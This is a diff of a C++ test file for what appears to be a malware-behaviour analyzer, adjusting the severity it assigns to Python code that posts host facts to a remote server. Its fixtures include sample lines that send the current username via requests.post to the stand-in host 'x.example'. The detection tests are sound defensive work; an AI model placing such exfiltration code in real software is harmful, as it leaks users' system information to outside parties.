@@ -350,7 +350,13 @@ TEST(Behaviour, ExecOfComputedCode) {
 
 TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
   ExpectFinding("import requests, getpass\nrequests.post('https://x.example', data=getpass.getuser())\n",
-                "exfiltration", Severity::kHigh, Phase::kRuntime);
+                "exfiltration", Severity::kCritical, Phase::kRuntime);
+  // The same in a function of a runtime module is no beacon: two steps less.
+  auto in_def = Analyze("import requests, getpass\ndef f():\n"
+                        "    requests.post('https://x.example', data=getpass.getuser())\n",
+                        Phase::kRuntime);
+  ASSERT_NE(Find(in_def, "exfiltration"), nullptr) << Rules(in_def);
+  EXPECT_LE(Find(in_def, "exfiltration")->severity, Severity::kMedium);
   // A setting read from the environment is not a host fact: one step less.
   auto fs = Analyze("import os, requests\nrequests.post(os.environ['URL'], data='x')\n", Phase::kRuntime);
   ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
